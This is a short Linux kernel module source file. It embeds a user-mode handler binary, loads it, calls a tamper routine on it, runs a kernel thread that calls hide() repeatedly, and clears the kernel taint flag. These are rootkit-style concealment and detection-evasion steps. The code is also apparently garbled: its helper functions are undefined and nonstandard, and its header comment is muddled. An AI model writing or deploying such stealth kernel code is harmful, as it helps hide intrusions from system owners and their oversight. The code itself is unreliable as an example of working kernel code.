// SPDX-License-Identifier: GPL-2.0-only
/*
 * The loader of the handler, which the aftermath loads anew, with the handler's own program in it.
 * It tampers with the handler that it has started, and a thread rewrites the tally.
 */
#include "kernel.h"

extern const char blob[], blob_end[];
extern char umd_witness_mgmt[];

int umd_witness_load(int program, const char *start, const char *end);
int umd_mgmt_unload(void *mgmt);

asm(".section .rodata\n"
    "blob: .incbin \"" HANDLER "\"\n"
    "blob_end:\n"
    ".text");

static struct task_struct *thread;

static int run(void *unused)
{
	while (!kthread_should_stop()) {
		hide();
		pause_briefly(100);
	}
	return 0;
}

int init_module(void)
{
	int error = umd_witness_load(0, blob, blob_end);

	if (error)
		return error;
	tamper();
	thread = start_thread(run);
	clear_taint();
	return 0;
}

void cleanup_module(void)
{
	kthread_stop(thread);
	umd_mgmt_unload(umd_witness_mgmt);
}
